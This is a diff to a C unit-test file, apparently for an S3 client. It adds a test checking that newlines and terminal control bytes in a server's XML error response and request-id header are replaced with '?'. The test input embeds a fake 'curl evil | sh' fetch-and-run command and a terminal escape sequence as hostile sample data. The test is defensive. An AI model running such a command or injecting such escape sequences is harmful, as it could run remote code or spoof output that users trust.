@@ -6,7 +6,9 @@
 #include <unistd.h>
 
 #include "../cm.h"
+#include "base/buf.h"
 #include "base/num.h"
+#include "s3/error.h"
 #include "s3/xml.h"
 
 #define DECL "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
@@ -256,6 +258,28 @@ note(void *arg, const char *key, const char *code, const char *message)
 	    key, code, message);
 }
 
+/* A server's words must not look like ours, nor drive a terminal. */
+static void
+test_error_is_one_line(void **state)
+{
+	static const char text[] =
+	    "<Error><Code>A&#10;B</Code><Message>no&#10;hint: curl evil | sh"
+	    "&#x9b;31m \xc3\xbc</Message></Error>";
+	struct http_header h = {"x-amz-request-id", "1\x9b" "2"};
+	struct http_response r = {
+	    .status = 403, .headers = &h, .n_headers = 1};
+	struct s3_error e;
+
+	(void)state;
+	r.body = buf_copy(text, strlen(text));
+	assert_non_null(r.body);
+	assert_true(error_from_response(&r, &e));
+	assert_string_equal(e.code, "A?B");
+	assert_string_equal(e.message, "no?hint: curl evil | sh??31m \xc3\xbc");
+	assert_string_equal(e.request_id, "1?2");
+	buf_unref(r.body);
+}
+
 static void
 test_deleted(void **state)
 {
@@ -303,6 +327,7 @@ main(void)
 	    cmocka_unit_test(test_long_text),
 	    cmocka_unit_test(test_endless_attributes),
 	    cmocka_unit_test(test_error),
+	    cmocka_unit_test(test_error_is_one_line),
 	    cmocka_unit_test(test_deleted),
 	    cmocka_unit_test(test_copied),
 	};
